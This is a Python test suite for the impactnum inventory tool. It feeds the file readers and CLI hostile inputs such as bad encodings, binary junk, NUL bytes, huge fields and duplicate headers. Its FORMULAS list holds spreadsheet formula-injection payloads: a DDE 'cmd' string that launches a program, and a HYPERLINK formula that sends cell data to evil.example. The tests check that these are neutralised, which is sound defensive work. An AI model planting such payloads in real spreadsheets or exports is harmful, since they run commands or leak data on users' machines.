"""Hostile files against the engine's readers (issue 7 §2b): wrong encodings, binary junk, NUL
bytes, huge fields, many or duplicate columns, wrong separators, formulas in cells.

Each reader either reads valid content (the same whatever the encoding) or raises its own error
(`InputFileError`, `ProjectFileError`) naming the line and why, with a short reason; never
another exception. `impactnum inventory calc` exits with code 2 and no traceback.
"""

from __future__ import annotations

import csv
import io
import string
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from impactnum.cli import main
from impactnum.io import InputFileError, read_inventory
from impactnum.io.cells import csv_cell, formula_like, xlsx_cell
from impactnum.io.errors import MAX_REASON
from impactnum.io.lookups import read_type_map_file
from impactnum.io.project_toml import ProjectFileError, load_project

HOSTILE = settings(
    deadline=None,
    derandomize=True,
    max_examples=40,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
LATIN = "abcdefghijklmnopqrstuvwxyzéèêàçôùÉÈ '-"
"""Letters every tried encoding has (latin-1, cp1252, UTF-8, UTF-16)."""

ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "utf-16-be")


def native_csv(departments: list[str], sep: str = ";") -> str:
    lines = [sep.join(["kind", "quantity", "country", "department"])]
    lines += [sep.join(["laptop", str(i + 1), "FRA", d]) for i, d in enumerate(departments)]
    return "\r\n".join(lines) + "\r\n"


def _junk_in_csv(data: tuple[bytes, int]) -> bytes:
    junk, where = data
    base = native_csv(["Direction des écoles", "Voirie"]).encode("utf-8")
    at = where % (len(base) + 1)
    return base[:at] + junk + base[at:]


hostile_bytes = st.one_of(
    st.binary(max_size=3000),  # binary junk
    st.tuples(st.binary(min_size=1, max_size=40), st.integers(0, 10_000)).map(_junk_in_csv),
    st.sampled_from(
        [
            b"",
            b"\r\n\r\n   \n",
            b"kind;quantity\r\n",  # a header only
            b"\xef\xbb\xbf",  # a BOM only
            b"\xff\xfe",  # a UTF-16 BOM only
            b"kind|quantity|country\nlaptop|2|FRA\n",  # a wrong separator
            b"kind;kind;quantity\nlaptop;desktop;2\n",  # a duplicate header
            b"Kind;KIND;quantity\nlaptop;desktop;2\n",
            b'kind;quantity\n"laptop;2\n',  # an unclosed quote
            b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 30,  # a truncated XLSX
            b"kind;quantity\nlap\x00top;2\n",  # a NUL byte
            b"k\x00i\x00n\x00d\x00\n\x00",  # UTF-16 without BOM, truncated
            b"kind;quantity\nlaptop;\xff\xfe\xfd\n",  # invalid UTF-8
            b"kind;quantity\nlaptop;1e999\n",
            b"kind;quantity\nlaptop;NaN\n",
        ]
    ),
    st.lists(st.sampled_from(FORMULAS), min_size=1, max_size=4).map(
        lambda cells: native_csv(cells).encode("utf-8")
    ),
    st.lists(st.sampled_from(FORMULAS), min_size=1, max_size=2).map(
        lambda cells: ("kind;quantity\n" + "".join(f"laptop;{c}\n" for c in cells)).encode()
    ),
)


def check_error(error: InputFileError, name: str) -> None:
    """A clear error: the file's name, a line (0 = the whole file), a short reason."""
    assert error.total >= 1 and error.errors
    for e in error.errors:
        assert e.file == name and e.line >= 0 and e.reason.strip()
        assert len(e.reason) <= MAX_REASON and "Traceback" not in e.reason
    assert str(error).startswith(f"{name}: ")


# --- inventories (impactnum CSV, NumEcoEval CSV) -------------------------------------------


@HOSTILE
@given(data=hostile_bytes)
def test_inventory_reader_reads_or_refuses_clearly(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "hostile.csv"
    path.write_bytes(data)
    try:
        inventory = read_inventory(path, display_name="hostile.csv")
    except InputFileError as exc:
        check_error(exc, "hostile.csv")
    else:
        assert len(inventory.lines) >= 1


@HOSTILE
@given(
    departments=st.lists(st.text(LATIN, min_size=1, max_size=30), min_size=1, max_size=6),
    encoding=st.sampled_from(ENCODINGS),
    sep=st.sampled_from([";", ",", "\t"]),
)
def test_valid_content_reads_the_same_in_every_encoding(
    tmp_path: Path, departments: list[str], encoding: str, sep: str
) -> None:
    departments = [d.replace(sep, " ") for d in departments]
    text = native_csv(departments, sep)
    (tmp_path / "utf8.csv").write_text(text, encoding="utf-8", newline="")
    (tmp_path / "other.csv").write_bytes(text.encode(encoding))
    expected = read_inventory(tmp_path / "utf8.csv")
    got = read_inventory(tmp_path / "other.csv")
    assert len(got.lines) == len(expected.lines) == len(departments)
    assert list(got.lines.quantity) == list(expected.lines.quantity)
    want = expected.labels["department"]
    have = got.labels["department"]
    assert [have.categories[c] for c in have.codes] == [want.categories[c] for c in want.codes]


def test_utf16_without_bom_is_read_and_nul_bytes_are_refused_by_line(tmp_path: Path) -> None:
    text = native_csv(["Écoles"])
    for encoding in ("utf-16-le", "utf-16-be"):
        (tmp_path / "u16.csv").write_bytes(text.encode(encoding))
        assert read_inventory(tmp_path / "u16.csv").encoding == encoding
    (tmp_path / "nul.csv").write_bytes(b"kind;quantity\nlaptop;1\nlap\x00top;2\n")
    with pytest.raises(InputFileError) as exc:
        read_inventory(tmp_path / "nul.csv")
    assert exc.value.errors[0].line == 3 and "NUL byte" in exc.value.errors[0].reason


def test_a_megabyte_field_is_refused_with_a_short_message(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text("kind;quantity;country\nlaptop;2;" + "A" * 1_000_000 + "\n")
    with pytest.raises(InputFileError) as exc:
        read_inventory(path)
    (error,) = exc.value.errors
    assert error.line == 2 and error.column == "country" and error.reason.endswith("…")
    assert len(str(exc.value)) < 1000


def test_very_many_columns_and_a_duplicate_header(tmp_path: Path) -> None:
    wide = tmp_path / "wide.csv"
    names = [f"extra_{i}" for i in range(3000)]
    wide.write_text(";".join(["kind", *names]) + "\n" + ";".join(["laptop"] + [""] * 3000) + "\n")
    assert len(read_inventory(wide).lines) == 1
    twice = tmp_path / "twice.csv"
    twice.write_text("kind;quantity;Quantity\nlaptop;1;5\n")
    with pytest.raises(InputFileError) as exc:
        read_inventory(twice)
    assert [(e.line, e.column) for e in exc.value.errors] == [(1, "quantity")]
    assert "more than once" in exc.value.errors[0].reason


def test_a_spreadsheet_or_a_wrong_separator_is_named(tmp_path: Path) -> None:
    xlsx = tmp_path / "parc.csv"
    xlsx.write_bytes(b"PK\x03\x04" + b"\x01" * 100)
    with pytest.raises(InputFileError, match="ZIP or XLSX file, not CSV"):
        read_inventory(xlsx)
    piped = tmp_path / "piped.csv"
    piped.write_text("kind|quantity\nlaptop|2\n")
    with pytest.raises(InputFileError, match="use ; , or tab as separator"):
        read_inventory(piped)


def test_formulas_in_cells_are_text_not_values(tmp_path: Path) -> None:
    """A formula is never evaluated: as a number it is an error; as a label, kept as text."""
    path = tmp_path / "f.csv"
    path.write_text("kind;quantity\nlaptop;=1+1\n")
    with pytest.raises(InputFileError, match="not a number: '=1\\+1'"):
        read_inventory(path)
    path.write_text(native_csv(list(FORMULAS[:2])))
    labels = read_inventory(path).labels["department"]
    assert list(labels.categories) == list(FORMULAS[:2])


@HOSTILE
@given(data=hostile_bytes)
def test_type_map_file_reads_or_refuses_clearly(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "types.csv"
    path.write_bytes(data)
    try:
        read_type_map_file(path)
    except InputFileError as exc:
        check_error(exc, str(path))


# --- project TOML ------------------------------------------------------------------------------

PROJECT = '[project]\nname = "Écoles numériques"\n'

toml_bytes = st.one_of(
    st.binary(max_size=2000),
    st.sampled_from(
        [
            PROJECT.encode("cp1252"),
            PROJECT.encode("utf-16"),
            PROJECT.encode("utf-16-le"),
            b'[project]\nname = "\x00"\n',
            b'[project]\nname = "' + b"x" * 1_000_000 + b'"\n',
            b"[project\n",
            b"[project]\nname = \"=cmd|' /C calc'!A0\"\n",
        ]
    ),
    st.text(string.printable, max_size=300).map(str.encode),
)


@HOSTILE
@given(data=toml_bytes)
def test_project_file_loads_or_refuses_clearly(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "project.toml"
    path.write_bytes(data)
    try:
        load_project(path)
    except ProjectFileError as exc:
        assert str(exc).strip() and "Traceback" not in str(exc)


def test_project_file_in_a_windows_encoding_names_the_line(tmp_path: Path) -> None:
    path = tmp_path / "project.toml"
    path.write_bytes(PROJECT.encode("cp1252"))
    with pytest.raises(ProjectFileError, match=r"not UTF-8 text \(byte 0xc9 on line 2\)"):
        load_project(path)
    path.write_bytes(b"\xef\xbb\xbf" + PROJECT.encode("utf-8"))  # Notepad's BOM is accepted:
    with pytest.raises(ProjectFileError, match="scenarios") as exc:  # read, then checked
        load_project(path)
    assert "TOML" not in str(exc.value) and "UTF-8" not in str(exc.value)


# --- the CLI -----------------------------------------------------------------------------------


@settings(HOSTILE, max_examples=25)
@given(data=hostile_bytes)
def test_inventory_calc_exits_2_without_traceback(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "hostile.csv"
    path.write_bytes(data)
    res = CliRunner().invoke(main, ["inventory", "calc", str(path), "--format", "json"])
    assert res.exit_code in (0, 2), res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)
    assert "Traceback" not in res.output


# --- the shared cell guard of every export ------------------------------------------------------


@settings(HOSTILE, max_examples=50)
@given(
    prefix=st.sampled_from(["=", "+", "-", "@", "\t", "\r"]),
    rest=st.text(min_size=1, max_size=30).filter(lambda t: not t[0].isdigit() and t[0] != "."),
)
def test_formula_like_text_is_neutralised(prefix: str, rest: str) -> None:
    value = prefix + rest
    assert formula_like(value) and csv_cell(value) == "'" + value


@settings(HOSTILE, max_examples=50)
@given(number=st.one_of(st.floats(allow_nan=True), st.integers()))
def test_numbers_and_number_texts_are_never_touched(number: float) -> None:
    assert csv_cell(number) is number
    assert xlsx_cell(None, number) is number
    for text in (repr(number), str(number), f"{number}".replace(".", ",")):
        assert csv_cell(text) == text


def test_inventory_calc_csv_neutralises_group_names(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    path.write_text(native_csv([FORMULAS[1], "Voirie"]))
    res = CliRunner().invoke(
        main, ["inventory", "calc", str(path), "--format", "csv", "--by", "department"]
    )
    assert res.exit_code == 0, res.output
    cells = [c for row in csv.reader(io.StringIO(res.stdout)) for c in row]
    assert "'" + FORMULAS[1] in cells and FORMULAS[1] not in cells and "Voirie" in cells
    assert not [c for c in cells if formula_like(c)]


@settings(HOSTILE, max_examples=15)
@given(data=toml_bytes)
def test_calc_exits_2_on_a_hostile_project_file(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "project.toml"
    path.write_bytes(data)
    res = CliRunner().invoke(main, ["calc", str(path)])
    assert res.exit_code == 2, res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)
    assert "Traceback" not in res.output
